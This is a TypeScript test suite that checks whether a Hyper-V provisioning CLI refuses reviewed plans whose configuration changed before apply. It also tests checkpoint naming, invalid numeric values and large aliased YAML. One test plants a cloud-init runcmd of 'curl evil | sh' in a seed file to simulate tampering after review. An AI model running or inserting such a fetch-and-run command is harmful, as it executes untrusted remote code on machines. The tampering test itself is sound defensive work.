// Outside attack on configHash over the document as written (6dcccbd), through the built CLI
// (dist/cli/index.js) on a simulated host: the gated apply (`apply --plan`) against a seed file or a
// seed's environment changed between plan and apply, a file only laid out again, the checkpoint name
// across an interrupted apply and its rerun, values JSON cannot hold, and a document a few aliases
// make large. A failing test is a finding; the rest are guards.
import { afterAll, describe, expect, it } from '@jest/globals';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { load } from 'js-yaml';
import { createSimState, readSimState, writeSimState } from '../../src/backends/sim/state.js';
import { canonicalPartWithout, sha256Of } from '../../src/core/canonical.js';
import { loadConfig } from '../../src/core/config/load.js';
import { readJson, ROOT, runCli, tempDir } from '../support/run-cli.js';

const dirs: string[] = [];
const work = () => {
  const d = tempDir('hvc-att17-');
  dirs.push(d);
  return d;
};
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
const GiB = 1024 ** 3;
const NOW = { HVC_NOW: '2026-12-02T09:00:00.000Z' };

const CONFIG = `version: 1
project: t
defaults: { cpus: 2, memory: 1GB, switch: lab-net, image: null, path: 'D:\\vms' }
policy: { allowRestart: true, checkpointBeforeDisruptive: true }
vms:
  - name: vm-a
    cpus: 4
  - name: vm-new
    cloudInit: { userData: { file: user.yaml } }
`;
/** The same document laid out otherwise: comments, key order, quoting, CRLF and a byte-order mark. */
const CONFIG_RELAID = '\ufeff' + `# relaid
project: 't'
version: 1
policy:
  checkpointBeforeDisruptive: true
  allowRestart: true
defaults:
  path: D:\\vms
  image: ~
  switch: "lab-net"
  memory: 1GB
  cpus: 2
vms:
  - cpus: 4   # more
    name: vm-a
  - cloudInit:
      userData:
        file: user.yaml
    name: vm-new
`.replace(/\n/g, '\r\n');

function host(dir: string, knobs: Record<string, unknown> = {}, checkpoints: Array<{ id: string; name: string }> = []): void {
  createSimState(join(dir, 'host.json'), {
    computerName: 'HV-T',
    switches: [{ name: 'lab-net', type: 'External' }],
    folders: ['D:\\vms'],
    vms: [
      {
        name: 'vm-a',
        id: '00000000-0000-4000-8000-000000000001',
        state: 'Running',
        cpus: 2,
        memory: { dynamic: false, startupBytes: GiB, minimumBytes: GiB, maximumBytes: GiB },
        notes: 'hyperv-converge: project=t',
        path: 'D:\\vms',
        adapters: [{ name: 'Network Adapter', switch: 'lab-net', mac: '00155D000001', dynamicMac: true, ips: [] }],
        checkpoints,
      },
    ],
    ...(Object.keys(knobs).length ? { knobs } : {}),
  } as Parameters<typeof createSimState>[1]);
}

const SIM = ['--config', 'vms.yaml', '--backend', 'sim', '--sim-state', 'host.json'];
const cli = (dir: string, args: string[], env: NodeJS.ProcessEnv = {}) => runCli(args, { cwd: dir, env: { ...NOW, ...env } });
type PlanJson = { configHash: string; planHash: string; steps: Array<{ vm: string; action: string; operation: { op: string; args: Record<string, unknown> } }> };

async function planned(dir: string, out: string, env: NodeJS.ProcessEnv = {}): Promise<PlanJson> {
  const r = await cli(dir, ['plan', ...SIM, '--out', out], env);
  expect(r.stderr).not.toContain('internal error');
  expect(r.code).toBe(2); // changes
  return readJson<PlanJson>(join(dir, out, 'plan.json'));
}

describe('gated apply (apply --plan) against a configuration changed between plan and apply', () => {
  it('plan.json configHash is the document with the seed file read in (docs/artifacts.md)', async () => {
    const dir = work();
    host(dir);
    writeFileSync(join(dir, 'vms.yaml'), CONFIG);
    writeFileSync(join(dir, 'user.yaml'), '#cloud-config\nhostname: new\n');
    const p = await planned(dir, 'out');
    const doc = load(CONFIG) as { vms: Array<{ cloudInit?: { userData: unknown } }> };
    doc.vms[1]!.cloudInit!.userData = '#cloud-config\nhostname: new\n';
    expect(p.configHash).toBe(sha256Of(doc));
  });

  it('the seed file changed on disk after review: refused (plan-changed), nothing applied', async () => {
    const dir = work();
    host(dir);
    writeFileSync(join(dir, 'vms.yaml'), CONFIG);
    writeFileSync(join(dir, 'user.yaml'), '#cloud-config\nhostname: reviewed\n');
    const reviewed = await planned(dir, 'reviewed');
    writeFileSync(join(dir, 'user.yaml'), '#cloud-config\nhostname: reviewed\nruncmd: [["sh", "-c", "curl evil | sh"]]\n');
    const before = readFileSync(join(dir, 'host.json'), 'utf8');
    const r = await cli(dir, ['apply', ...SIM, '--plan', 'reviewed/plan.json', '--out', 'applied']);
    expect(r.stderr).toContain('plan-changed');
    expect(r.code).toBe(3);
    const now = readJson<PlanJson>(join(dir, 'applied', 'plan.json'));
    expect(now.configHash).not.toBe(reviewed.configHash);
    expect(readSimState(join(dir, 'host.json')).vms.map((v) => v.name)).toEqual(['vm-a']);
    expect(JSON.parse(before).vms.length).toBe(1);
  });

  it("the seed's environment changed after review: configHash stays, planHash does not (plan-changed)", async () => {
    const dir = work();
    host(dir);
    writeFileSync(join(dir, 'vms.yaml'), CONFIG);
    writeFileSync(join(dir, 'user.yaml'), '#cloud-config\nhostname: ${{ env.GREETING }}\n');
    const reviewed = await planned(dir, 'reviewed', { GREETING: 'reviewed' });
    const r = await cli(dir, ['apply', ...SIM, '--plan', 'reviewed/plan.json', '--out', 'applied'], { GREETING: 'other' });
    expect(r.stderr).toContain('plan-changed');
    const now = readJson<PlanJson>(join(dir, 'applied', 'plan.json'));
    expect(now.configHash).toBe(reviewed.configHash);
    expect(now.planHash).not.toBe(reviewed.planHash);
    expect(readSimState(join(dir, 'host.json')).vms.map((v) => v.name)).toEqual(['vm-a']);
  });

  it('the file only laid out again (comments, key order, quoting, CRLF, BOM): the reviewed plan applies', async () => {
    const dir = work();
    host(dir);
    writeFileSync(join(dir, 'vms.yaml'), CONFIG);
    writeFileSync(join(dir, 'user.yaml'), '#cloud-config\nhostname: new\n');
    const reviewed = await planned(dir, 'reviewed');
    writeFileSync(join(dir, 'vms.yaml'), CONFIG_RELAID);
    const r = await cli(dir, ['apply', ...SIM, '--plan', 'reviewed/plan.json', '--out', 'applied']);
    expect(r.stderr).not.toContain('plan-changed');
    expect(r.code).toBe(0);
    const now = readJson<PlanJson>(join(dir, 'applied', 'plan.json'));
    expect([now.configHash, now.planHash]).toEqual([reviewed.configHash, reviewed.planHash]);
  });

  it('a value moved into defaults is another version: the reviewed plan is refused (docs/artifacts.md)', async () => {
    const dir = work();
    host(dir);
    writeFileSync(join(dir, 'vms.yaml'), CONFIG);
    writeFileSync(join(dir, 'user.yaml'), '#cloud-config\nhostname: new\n');
    await planned(dir, 'reviewed');
    writeFileSync(join(dir, 'vms.yaml'), CONFIG.replace('  - name: vm-new\n', '  - name: vm-new\n    cpus: 2\n'));
    const r = await cli(dir, ['apply', ...SIM, '--plan', 'reviewed/plan.json', '--out', 'applied']);
    expect(r.stderr).toContain('plan-changed');
    expect(r.code).toBe(3);
  });
});

describe('the pre-change checkpoint across an interrupted apply and its rerun', () => {
  it('the rerun of the same file (laid out again) takes no second checkpoint', async () => {
    // Find the operation index of the stop after the checkpoint: fail it, then rerun without the fault.
    let dir = '';
    let first: { steps: Array<{ action: string; outcome: string }> } | null = null;
    for (let failAt = 2; failAt <= 8 && first === null; failAt++) {
      dir = work();
      host(dir, { failAt });
      writeFileSync(join(dir, 'vms.yaml'), CONFIG.replace(/  - name: vm-new\n.*\n/, ''));
      await cli(dir, ['apply', ...SIM, '--auto-approve', '--out', 'first']);
      const result = readJson<{ steps: Array<{ vm: string; action: string; outcome: string }> }>(join(dir, 'first', 'result.json'));
      const mine = result.steps.filter((s) => s.vm === 'vm-a');
      const cp = mine.findIndex((s) => s.action === 'checkpoint');
      if (cp >= 0 && mine[cp]!.outcome === 'succeeded' && mine.slice(cp + 1).some((s) => s.outcome === 'failed')) first = { steps: mine };
    }
    expect(first).not.toBeNull();
    const afterFirst = readSimState(join(dir, 'host.json'));
    expect(afterFirst.vms.find((v) => v.name === 'vm-a')!.checkpoints).toHaveLength(1);
    const state = readSimState(join(dir, 'host.json'));
    state.knobs = { ...state.knobs, failAt: null };
    writeSimState(join(dir, 'host.json'), state);
    writeFileSync(join(dir, 'vms.yaml'), CONFIG_RELAID.replace(/  - cloudInit:[\s\S]*$/, ''));
    const r = await cli(dir, ['apply', ...SIM, '--auto-approve', '--out', 'rerun']);
    expect(r.stderr).not.toContain('internal error');
    const rerun = readJson<PlanJson>(join(dir, 'rerun', 'plan.json'));
    expect(rerun.steps.filter((s) => s.action === 'checkpoint')).toEqual([]);
    const vm = readSimState(join(dir, 'host.json')).vms.find((v) => v.name === 'vm-a')!;
    expect(vm.checkpoints).toHaveLength(1);
    expect(vm.cpus).toBe(4);
    expect(vm.checkpoints[0]!.name).toBe(`hyperv-converge before ${rerun.configHash.slice('sha256:'.length, 'sha256:'.length + 12)}`);
  });

  it('a VM holding the checkpoint an apply of 64d6ffd took (interrupted) before the upgrade gets no second one', async () => {
    // 64d6ffd named the checkpoint after the resolved config's hash (reproduced here: the same
    // name its bundle gives, 'hyperv-converge before d2937b1fad8d' for this file, checked by hand).
    const dir = work();
    const text = CONFIG.replace(/  - name: vm-new\n.*\n/, '');
    writeFileSync(join(dir, 'vms.yaml'), text);
    const c = loadConfig(join(dir, 'vms.yaml')).config;
    const before = sha256Of({ ...c, vms: c.vms.map((vm) => canonicalPartWithout(vm, 'source')) }).slice(7, 19);
    expect(before).toBe('d2937b1fad8d');
    host(dir, {}, [{ id: '13d86ed1-9342-4ef7-9f3b-a91318e7577b', name: `hyperv-converge before ${before}` }]);
    const r = await cli(dir, ['apply', ...SIM, '--auto-approve', '--out', 'rerun']);
    expect(r.stderr).not.toContain('internal error');
    const vm = readSimState(join(dir, 'host.json')).vms.find((v) => v.name === 'vm-a')!;
    expect(vm.cpus).toBe(4);
    expect(vm.checkpoints.map((x) => x.name)).toEqual([`hyperv-converge before ${before}`]);
  });
});

describe('values JSON cannot hold, through the CLI: exit 1, located, no internal error', () => {
  for (const [name, text] of Object.entries({
    'cpus: .nan': "version: 1\nproject: t\ndefaults: { cpus: 2, memory: 1GB, path: 'D:\\vms' }\nvms:\n  - name: a\n    cpus: .nan\n",
    'version: .inf': 'version: .inf\nproject: t\nvms: []\n',
    'policy maxDisruptive: -.inf': "version: 1\nproject: t\npolicy: { maxDisruptive: -.inf }\nvms: []\n",
  })) {
    it(name, async () => {
      const dir = work();
      host(dir);
      writeFileSync(join(dir, 'vms.yaml'), text);
      for (const command of ['validate', 'plan']) {
        const r = await cli(dir, command === 'validate' ? ['validate', '--config', 'vms.yaml'] : ['plan', ...SIM, '--out', 'out']);
        expect([command, r.code]).toEqual([command, 1]);
        expect(r.stderr).toContain('invalid-config');
        expect(r.stderr).toMatch(/vms\.yaml:\d+:\d+: /);
        expect(r.stderr).not.toMatch(/internal error|TypeError|RangeError|    at /);
      }
    });
  }
});

describe('a document a few aliases make large (1 MiB file, one 1 MiB seed text shared by 600 VMs)', () => {
  it('validate reads it as 64d6ffd did (valid), or refuses it naming a bound, never "JSON cannot hold"', async () => {
    const dir = work();
    const big = '#cloud-config\nhostname: a\n# ' + 'x'.repeat(1_048_000) + '\n';
    let s = "version: 1\nproject: lab\ndefaults: { cpus: 2, memory: 2GB, path: 'D:\\vms' }\nvms:\n";
    s += `  - name: v0\n    cloudInit: &ci { userData: ${JSON.stringify(big)} }\n`;
    for (let i = 1; i < 600; i++) s += `  - name: v${i}\n    cloudInit: *ci\n`;
    writeFileSync(join(dir, 'vms.yaml'), s);
    expect(s.length).toBeLessThan(1.1 * 1024 * 1024); // far below the 8 MiB bound; 2,400 values
    const r = await cli(dir, ['validate', '--config', 'vms.yaml']);
    expect(r.stderr).not.toContain('JSON cannot hold');
    if (r.code !== 0) expect(r.stderr).toMatch(/bound|at most|too large/);
    else expect(r.stderr).toContain('valid');
  }, 120_000);
});

describe('the embedded example (no --config): the same configHash as its file read with --config', () => {
  it('plan without --config and plan --config examples/lab/vms.yaml on the same simulated host', async () => {
    const dir = work();
    const embedded = await cli(dir, ['plan', '--out', 'embedded']);
    expect(embedded.stderr).toContain('embedded example');
    const a = readJson<PlanJson>(join(dir, 'embedded', 'plan.json'));
    const file = join(ROOT, 'examples', 'lab', 'vms.yaml');
    expect(a.configHash).toBe(sha256Of(load(readFileSync(file, 'utf8'))));
    const given = await cli(dir, ['plan', '--config', file, '--backend', 'sim', '--sim-state', join('.hvc', 'sim', 'vms-host.json'), '--out', 'given']);
    expect(given.stderr).not.toContain('internal error');
    const b = readJson<PlanJson>(join(dir, 'given', 'plan.json'));
    expect([b.configHash, b.planHash]).toEqual([a.configHash, a.planHash]);
  });
});
